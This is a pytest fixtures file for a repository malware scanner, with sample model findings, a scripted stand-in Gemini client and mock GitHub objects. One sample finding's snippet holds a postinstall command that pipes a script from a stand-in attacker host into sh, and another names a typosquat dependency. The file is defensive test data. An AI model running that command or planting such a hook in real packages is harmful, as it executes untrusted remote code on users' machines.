"""Shared fixtures for the repository scanner test suite."""

from datetime import datetime, timezone
from unittest.mock import MagicMock

import pytest

from scanner.config import ScanConfig
from scanner.errors import InferenceError
from scanner.models import RepoMetadata


# ---------------------------------------------------------------------------
# Sample model answers
# ---------------------------------------------------------------------------

EMPTY_FINDINGS = {
    "maliciousCode": [],
    "dependencies": [],
    "networkActivity": [],
    "fileSystemSafety": [],
    "credentialSafety": [],
}

POSTINSTALL_FINDING = {
    "item": "Remote script in postinstall",
    "location": "package.json",
    "issue": "postinstall pipes a remote script into sh on every install.",
    "severity": "severe",
    "codeSnippet": '"postinstall": "curl -s https://evil.example/x.sh | sh"',
    "batchId": 1,
}

TYPOSQUAT_FINDING = {
    "item": "Possible typosquat dependency",
    "location": "package.json",
    "issue": "Dependency name closely resembles a popular package.",
    "severity": "moderate",
    "codeSnippet": '"expresss": "^4.0.0"',
    "batchId": 1,
    "dependencyUrl": "https://npmjs.com/package/expresss",
}

LOW_FINDING = {
    "item": "Verbose logging",
    "location": "scripts/build.js",
    "issue": "Build script logs environment names.",
    "severity": "low",
    "codeSnippet": "console.log(process.env.NODE_ENV)",
    "batchId": 1,
}

CLEAN_PACKAGE_JSON = """{
  "name": "left-pad-ng",
  "version": "1.0.0",
  "scripts": {"test": "jest"},
  "dependencies": {"lodash": "^4.17.21"},
  "devDependencies": {"jest": "^29.0.0"}
}"""


def findings_with(**categories):
    data = {key: list(value) for key, value in EMPTY_FINDINGS.items()}
    data.update(categories)
    return data


class ScriptedGeminiClient:
    """Stands in for GeminiClient; hands out queued answers in order.

    Exceptions in the queue are raised instead of returned.
    """

    def __init__(self, *answers):
        self.answers = list(answers)
        self.calls = []

    def generate_json(self, prompt, temperature=0.3, max_output_tokens=65536, response_schema=None):
        self.calls.append({
            "prompt": prompt,
            "temperature": temperature,
            "max_output_tokens": max_output_tokens,
            "response_schema": response_schema,
        })
        if not self.answers:
            raise InferenceError("no scripted answer left")
        answer = self.answers.pop(0)
        if isinstance(answer, Exception):
            raise answer
        return answer


def tree_element(path, kind="blob", size=100):
    el = MagicMock()
    el.path = path
    el.type = kind
    el.size = size
    return el


def content_file(text, size=None):
    cf = MagicMock()
    data = text.encode("utf-8")
    cf.type = "file"
    cf.encoding = "base64"
    cf.decoded_content = data
    cf.size = len(data) if size is None else size
    return cf


@pytest.fixture
def metadata():
    return RepoMetadata(
        owner="octo-dev",
        name="left-pad-ng",
        default_branch="main",
        language="JavaScript",
        description="Pads strings on the left",
        stars=12,
        last_pushed_at=datetime(2026, 10, 1, 12, 0, tzinfo=timezone.utc),
    )


@pytest.fixture
def config(tmp_path):
    return ScanConfig(
        gemini_api_key="fake-key",
        github_token="ghp_fake",
        store_path=str(tmp_path / "scanned_repos.json"),
    )


@pytest.fixture
def scripted_client():
    return ScriptedGeminiClient


@pytest.fixture
def make_tree_element():
    return tree_element


@pytest.fixture
def make_content_file():
    return content_file


@pytest.fixture
def make_findings():
    return findings_with


@pytest.fixture
def severe_finding():
    return dict(POSTINSTALL_FINDING)


@pytest.fixture
def moderate_finding():
    return dict(TYPOSQUAT_FINDING)


@pytest.fixture
def low_finding():
    return dict(LOW_FINDING)


@pytest.fixture
def clean_package_json():
    return CLEAN_PACKAGE_JSON
